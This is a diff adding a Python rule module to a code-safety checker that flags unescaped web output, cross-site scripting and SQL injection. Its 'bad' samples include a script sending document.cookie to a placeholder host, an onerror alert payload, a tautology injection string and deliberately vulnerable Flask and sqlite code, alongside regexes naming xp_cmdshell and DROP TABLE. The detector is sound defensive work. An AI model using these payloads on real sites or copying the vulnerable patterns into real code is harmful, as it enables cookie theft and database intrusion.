@@ -1,0 +1,124 @@
+"""Web pages and queries: what a stranger types becomes markup, a query or a template."""
+
+from __future__ import annotations
+
+import ast
+import re
+from collections.abc import Iterator
+
+from safety.python_program import Call, Program
+from safety.python_values import HOLE, Ref, as_text
+from safety.rules.rule import Rule
+from safety.shell_script import Script
+from safety.verdicts import Finding
+
+MARKUP = Rule(
+    "web.unescaped",
+    "ask",
+    "nothing",
+    "What a visitor sends is put into a page as it is, and runs in other visitors' browsers.",
+    bad=(
+        "from flask import Flask, request\napp = Flask(__name__)\n@app.route('/')\ndef f():\n    n = request.args.get('n')\n    return f'<h1>{n}</h1>'",
+        "from flask import render_template_string, request\nrender_template_string('Hi ' + request.args['n'])",
+    ),
+    good=("title = 'x'\nhtml = f'<h1>{title}</h1>'", "from markupsafe import escape\nprint(escape('<b>'))"),
+)
+SCRIPT = Rule(
+    "web.script",
+    "ask",
+    "nothing",
+    "The markup carries a script of the kind that takes cookies or is used to break pages.",
+    bad=("page = '<img src=x onerror=alert(1)>'", "s = '<script>fetch(\"http://x/?\" + document.cookie)</script>'", "#!bash\necho '<script>alert(1)</script>' > a.html"),
+    good=("page = '<script src=\"plot.js\"></script>'",),
+)
+QUERY = Rule(
+    "web.query",
+    "ask",
+    "nothing",
+    "Text is pasted into a query, where it can end it and start another.",
+    bad=("import sqlite3\nc = sqlite3.connect(':memory:')\nn = input()\nc.execute(f\"SELECT * FROM t WHERE n = '{n}'\")", "q = \"SELECT * FROM u WHERE n = 'x' OR '1'='1'\""),
+    good=("import sqlite3\nc = sqlite3.connect(':memory:')\nc.execute('SELECT * FROM t WHERE n = ?', ('a',))", "t = 'a'\ndef f(c, t):\n    c.execute(f'SELECT * FROM {t}')"),
+)
+RULES = (MARKUP, SCRIPT, QUERY)
+
+_TAG = re.compile(r"<\s*(?:h[1-6]|p|div|span|html|body|b|i|a|td|li|script|input|form|title|br|strong|em|pre|img|iframe)\b", re.IGNORECASE)
+_BAD_SCRIPT = re.compile(
+    r"document\.cookie|\bon(?:error|load|mouseover|click|focus)\s*=\s*[\"']?\s*(?:alert|eval|fetch|window|document|prompt|confirm)|<\s*script[^>]*>\s*(?:alert|prompt|confirm|eval)\s*\(|javascript:\s*(?:alert|eval|document|window|fetch)",
+    re.IGNORECASE,
+)
+_SENT = re.compile(r"^(?:flask\.request\.|bottle\.request\.|.*\brequest\.(?:args|form|values|GET|POST|query_params|cookies|json)\b|cgi\.FieldStorage)")
+_INJECTED = re.compile(r"'\s*or\s+'?1'?\s*=\s*'?1|\bunion\s+(?:all\s+)?select\b.*\bfrom\b.*(?:password|users|information_schema)|;\s*drop\s+table\b|'\s*;\s*--|\bor\s+1\s*=\s*1\b|xp_cmdshell|\bsleep\(\d+\)\s*--", re.IGNORECASE)
+_QUERY_HOLE = re.compile(rf"\b(?:select|insert|update|delete)\b.*?(?:'[%\w\s]*{HOLE}|=\s*{HOLE}|\(\s*{HOLE}|,\s*{HOLE}|like\s+\S*{HOLE})", re.IGNORECASE | re.DOTALL)
+
+
+def python(program: Program) -> Iterator[Finding]:
+    """Findings in a Python program."""
+    yield from _pages(program)
+    for call in program.calls:
+        yield from _call(program, call)
+    for node in program.nodes(ast.Constant):
+        if isinstance(node, ast.Constant) and isinstance(node.value, str) and not _is_docstring(program, node):
+            text = node.value[:20_000]
+            if _BAD_SCRIPT.search(text):
+                yield SCRIPT.at(node.lineno, "holds a script of the kind that attacks a page's visitors", node.col_offset + 1)
+            elif _INJECTED.search(text):
+                yield QUERY.at(node.lineno, "holds a query built to break out of another", node.col_offset + 1)
+
+
+def _is_docstring(program: Program, node: ast.Constant) -> bool:
+    return isinstance(program.parent(node), ast.Expr)
+
+
+def _call(program: Program, call: Call) -> Iterator[Finding]:
+    last = call.name.rsplit(".", 1)[-1]
+    given = [value for values in call.args for value in values]
+    if call.name.endswith("render_template_string") or (last == "from_string" and "jinja2" in call.name) or call.name in ("jinja2.Template", "mako.template.Template"):
+        if any(HOLE in as_text(value) for value in call.argument(0, "source")):
+            yield MARKUP.at(call.line, "makes a template out of what is sent", call.column)
+    elif call.name.endswith(("markupsafe.Markup", "flask.Markup", "mark_safe")) and any(HOLE in as_text(value) for value in given[:1]):
+        yield MARKUP.at(call.line, "declares text safe that is known only at run time", call.column)
+    elif last in ("execute", "executescript", "executemany", "raw") and given:
+        if any(isinstance(value, str) and _QUERY_HOLE.search(value[:4000]) for value in call.argument(0, "sql", "query")):
+            yield QUERY.at(call.line, "pastes text into a query", call.column)
+
+
+def _pages(program: Program) -> Iterator[Finding]:
+    for node in program.nodes(ast.Return, ast.Call):
+        if isinstance(node, ast.Return) and node.value is not None:
+            function = program.function(node)
+            if isinstance(function, (ast.FunctionDef, ast.AsyncFunctionDef)) and _is_route(program, function):
+                yield from _page(program, node.value, node.lineno, function)
+        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "write" and node.args:
+            function = program.function(node)
+            if isinstance(function, (ast.FunctionDef, ast.AsyncFunctionDef)) and function.name in ("do_GET", "do_POST", "get", "post"):
+                yield from _page(program, node.args[0], node.lineno, function)
+
+
+def _is_route(program: Program, function: ast.FunctionDef | ast.AsyncFunctionDef) -> bool:
+    for decorator in function.decorator_list:
+        target = decorator.func if isinstance(decorator, ast.Call) else decorator
+        if isinstance(target, ast.Attribute) and target.attr in ("route", "get", "post", "put", "delete", "api_route", "errorhandler"):
+            return True
+    return False
+
+
+def _page(program: Program, expr: ast.expr, line: int, function: ast.FunctionDef | ast.AsyncFunctionDef) -> Iterator[Finding]:
+    escaped = any(isinstance(node, ast.Call) and ast.unparse(node.func).rsplit(".", 1)[-1] in ("escape", "render_template", "jsonify", "quote", "clean") for node in ast.walk(function))
+    if escaped:
+        return
+    for value in program.values(expr):
+        sent = isinstance(value, Ref) and _SENT.match(value.name)
+        text = as_text(value)
+        if sent or (HOLE in text and _TAG.search(text)):
+            yield MARKUP.at(line, "puts what a visitor sends into a page as it is", expr.col_offset + 1)
+            return
+
+
+def shell(script: Script) -> Iterator[Finding]:
+    """Findings in a shell script."""
+    for command in script.commands:
+        text = " ".join((*command.args, command.body or ""))[:20_000]
+        if _BAD_SCRIPT.search(text):
+            yield SCRIPT.at(command.line, "holds a script of the kind that attacks a page's visitors", command.column)
+        elif _INJECTED.search(text):
+            yield QUERY.at(command.line, "holds a query built to break out of another", command.column)
